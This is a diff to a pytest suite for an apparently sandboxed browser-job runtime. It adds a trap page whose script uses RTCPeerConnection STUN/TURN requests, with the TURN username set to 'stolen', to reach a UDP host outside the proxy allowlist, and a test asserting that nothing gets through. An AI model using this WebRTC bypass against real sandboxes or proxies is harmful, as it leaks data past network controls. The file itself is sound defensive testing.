@@ -16,6 +16,7 @@ import json
 from collections.abc import AsyncIterator
 from dataclasses import dataclass, field, replace
 from pathlib import Path
+from typing import Any
 
 import pytest
 from aiohttp import web
@@ -45,6 +46,7 @@ SCRIPTS = {
     "websocket": '[{id: open, goto: "/websocket", expect: {visible: page.settled}}]',
     "image": '[{id: open, goto: "/image", expect: {visible: page.settled}}]',
     "download": '[{id: open, goto: "/dl"}, {id: fetch_file, click: page.download}]',
+    "webrtc": '[{id: open, goto: "/webrtc", expect: {visible: page.settled}}]',
 }
 
 
@@ -53,6 +55,8 @@ class Trap:
     url: str
     port: int
     hits: list[str] = field(default_factory=list)
+    udp_port: int = 0  # a STUN/TURN "server" off the site, on 127.0.0.2
+    datagrams: list[bytes] = field(default_factory=list)
 
     @property
     def stolen(self) -> list[str]:
@@ -85,6 +89,14 @@ async def trap() -> AsyncIterator[Trap]:
             + target.replace("http://", "ws://")
             + f"?via=websocket'); ws.onerror = () => {{ {settle}; }};</script>",
             "/image": f'<h1>Trap</h1><img src="/image-redirect" onerror="{settle}">',
+            # STUN and TURN go over UDP, which no proxy rule covers; the page settles once
+            # the browser has gathered every way it would connect.
+            "/webrtc": "<h1>Trap</h1><script>const pc = new RTCPeerConnection({iceServers: ["
+            f"{{urls: 'stun:127.0.0.2:{site.udp_port}'}}, {{urls: 'turn:127.0.0.2:"
+            f"{site.udp_port}?transport=udp', username: 'stolen', credential: 'x'}}]}});"
+            "pc.createDataChannel('x'); pc.onicegatheringstatechange = () => {"
+            f"if (pc.iceGatheringState === 'complete') {{ {settle}; }} }};"
+            "pc.createOffer().then((offer) => pc.setLocalDescription(offer));</script>",
             "/stolen": "<h1>Stolen</h1>",
             "/dl": '<h1>Files</h1><a id="dl" href="/file">statement</a>',
         }
@@ -100,6 +112,13 @@ async def trap() -> AsyncIterator[Trap]:
             raise web.HTTPNotFound()
         return web.Response(text=bodies[request.path], content_type="text/html")
 
+    class Heard(asyncio.DatagramProtocol):
+        def datagram_received(self, data: bytes, addr: tuple[str | Any, int]) -> None:
+            site.datagrams.append(data)
+
+    loop = asyncio.get_running_loop()
+    udp, _ = await loop.create_datagram_endpoint(Heard, local_addr=("127.0.0.2", 0))
+    site.udp_port = udp.get_extra_info("sockname")[1]
     app = web.Application()
     app.router.add_get("/{tail:.*}", page)
     runner = web.AppRunner(app)
@@ -109,6 +128,7 @@ async def trap() -> AsyncIterator[Trap]:
     site.port = runner.addresses[0][1]
     site.url = f"http://127.0.0.1:{site.port}"
     yield site
+    udp.close()
     await runner.cleanup()
 
 
@@ -140,6 +160,19 @@ async def test_requests_outside_the_allowlist_are_blocked_and_reported(
     failed = next(s for s in report.steps if s.status == StepStatus.failed)
     assert failed.failure is not None
     assert f"localhost:{trap.port}/stolen?via={how}" in (failed.failure.evidence or "")
+
+
+async def test_webrtc_reaches_no_host_outside_the_allowlist(
+    trap: Trap, trap_runtime: Runtime
+) -> None:
+    # A page's RTCPeerConnection sent STUN and TURN packets (a TURN user name is the page's to
+    # choose) to any address it named: the context's proxy rules cover HTTP and WebSockets,
+    # not WebRTC's UDP. Chromium now sends WebRTC only through the proxy (the sink).
+    job = BrowserJob(job_id="trap-webrtc", script="trap/webrtc", site_url=trap.url)
+    report = await run_job(job, trap_runtime)
+
+    assert trap.datagrams == []
+    assert report.status == JobStatus.succeeded, report.error  # the page tried, and settled
 
 
 async def test_downloads_stay_in_the_jobs_own_directory(
